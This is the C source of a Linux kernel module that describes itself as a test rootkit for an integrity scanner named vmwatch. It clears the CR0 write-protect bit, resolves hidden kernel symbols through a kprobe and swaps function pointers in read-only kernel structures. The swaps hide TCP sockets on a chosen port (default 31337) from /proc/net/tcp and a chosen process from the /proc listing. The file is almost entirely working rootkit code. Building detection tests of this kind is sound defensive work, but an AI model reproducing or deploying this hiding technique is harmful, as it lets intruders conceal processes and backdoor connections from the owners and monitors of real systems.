// SPDX-License-Identifier: GPL-2.0
/*
 * rk_seqops: TEST ROOTKIT for vmwatch's integrity scanner. Never load it on a
 * machine you care about.
 *
 * Two function-pointer swaps in const (read-only) kernel data:
 *   tcp4_seq_ops.show (struct seq_operations behind /proc/net/tcp):
 *     sockets whose local or remote port is `port` (default 31337) are not
 *     printed.  IPv4 only (/proc/net/tcp6 is untouched).
 *   proc_root_operations.iterate_shared (struct file_operations of /proc's
 *     root directory): the entry named `hide_pid` is dropped from the listing
 *     of /proc (0, the default: nothing hidden).  /proc/<pid> itself can still
 *     be opened by name.
 * Both parameters are writable at run time in /sys/module/rk_seqops/parameters/.
 *
 * Written with CR0.WP cleared by our own `mov %cr0`, under stop_machine()
 * (IRQs off on every CPU).  rmmod puts both original pointers back.
 *
 * One line on load, for tests (addresses raw):
 *   rk_seqops: hooked tcp4_seq_ops.show,proc_root_operations.iterate_shared port=<n> hide_pid=<n> \
 *     tcp4_seq_ops.show@0x<slot address>:0x<old ptr>->0x<new ptr> \
 *     proc_root_operations.iterate_shared@0x<slot address>:0x<old ptr>->0x<new ptr>
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/version.h>
#include <linux/kprobes.h>
#include <linux/fs.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <linux/stop_machine.h>
#include <linux/delay.h>
#include <linux/rcupdate.h>
#include <net/sock.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test rootkit: tcp4_seq_ops.show / proc_root_operations.iterate_shared swaps");

static int port = 31337;
module_param(port, int, 0644);
MODULE_PARM_DESC(port, "TCP port whose sockets /proc/net/tcp no longer shows");
static int hide_pid;
module_param(hide_pid, int, 0644);
MODULE_PARM_DESC(hide_pid, "pid whose /proc entry the /proc listing no longer shows (0: none)");

#include "rk_common.h"


static atomic_t inflight = ATOMIC_INIT(0);

/* ---- /proc/net/tcp ------------------------------------------------------ */

typedef int (*show_fn)(struct seq_file *, void *);
static show_fn orig_show;

static int hook_tcp4_show(struct seq_file *seq, void *v)
{
	int ret = 0;

	atomic_inc(&inflight);
	if (rk_sock_on_port(v, port))
		goto out;
	ret = orig_show(seq, v);
out:
	atomic_dec(&inflight);
	return ret;
}

/* ---- /proc listing ------------------------------------------------------ */

typedef int (*iterate_fn)(struct file *, struct dir_context *);
static iterate_fn orig_iterate;

struct hide_ctx {
	struct dir_context ctx;
	struct dir_context *orig;
	char name[16];
	int len;
};

static bool hide_actor(struct dir_context *ctx, const char *name, int namlen,
		       loff_t offset, u64 ino, unsigned int d_type)
{
	struct hide_ctx *h = container_of(ctx, struct hide_ctx, ctx);

	if (h->len && namlen == h->len && !memcmp(name, h->name, namlen))
		return true;	/* skipped, keep going */
	h->orig->pos = ctx->pos;
	return h->orig->actor(h->orig, name, namlen, offset, ino, d_type);
}

static int hook_proc_iterate(struct file *file, struct dir_context *ctx)
{
	struct hide_ctx h = {
		.ctx = { .actor = hide_actor, .pos = ctx->pos },
		.orig = ctx,
	};
	int pid = READ_ONCE(hide_pid);
	int ret;

	atomic_inc(&inflight);
	if (pid > 0)
		h.len = scnprintf(h.name, sizeof(h.name), "%d", pid);
	ret = orig_iterate(file, &h.ctx);
	ctx->pos = h.ctx.pos;
	atomic_dec(&inflight);
	return ret;
}

/* ---- install ------------------------------------------------------------ */

static struct seq_operations *tcp_ops;
static struct file_operations *root_fops;
static unsigned long new_show, new_iterate;
static bool hooked;

static int swap_all(bool install)
{
	struct wp_patch p[3] = {
		{ &tcp_ops->show, install ? (void *)&new_show : (void *)&orig_show,
		  sizeof(void *) },
		{ &root_fops->iterate_shared,
		  install ? (void *)&new_iterate : (void *)&orig_iterate, sizeof(void *) },
		{},
	};

	return wp_patch_all(p);
}

static int __init rk_seqops_init(void)
{
	int err;

	err = resolve_kln();
	if (err) {
		pr_err("kprobe on kallsyms_lookup_name failed: %d\n", err);
		return err;
	}
	tcp_ops = (struct seq_operations *)kln("tcp4_seq_ops");
	root_fops = (struct file_operations *)kln("proc_root_operations");
	if (!tcp_ops || !root_fops) {
		pr_err("tcp4_seq_ops or proc_root_operations not found\n");
		return -ENOENT;
	}
	orig_show = tcp_ops->show;
	orig_iterate = root_fops->iterate_shared;
	if (!orig_show || !orig_iterate ||
	    within_module((unsigned long)orig_show, THIS_MODULE) ||
	    within_module((unsigned long)orig_iterate, THIS_MODULE)) {
		pr_err("unexpected tcp4_seq_ops.show / proc_root_operations.iterate_shared\n");
		return -EBUSY;
	}
	new_show = (unsigned long)hook_tcp4_show;
	new_iterate = (unsigned long)hook_proc_iterate;
	err = swap_all(true);
	if (err)
		return err;
	hooked = true;
	pr_info("hooked tcp4_seq_ops.show,proc_root_operations.iterate_shared port=%d hide_pid=%d tcp4_seq_ops.show@%px:%px->%px proc_root_operations.iterate_shared@%px:%px->%px\n",
		port, hide_pid, &tcp_ops->show, orig_show, (void *)new_show,
		&root_fops->iterate_shared, orig_iterate, (void *)new_iterate);
	return 0;
}

static void __exit rk_seqops_exit(void)
{
	if (hooked)
		swap_all(false);
	synchronize_rcu_tasks();
	while (atomic_read(&inflight))
		msleep(10);
	synchronize_rcu_tasks();
	pr_info("unhooked tcp4_seq_ops.show,proc_root_operations.iterate_shared\n");
}

module_init(rk_seqops_init);
module_exit(rk_seqops_exit);
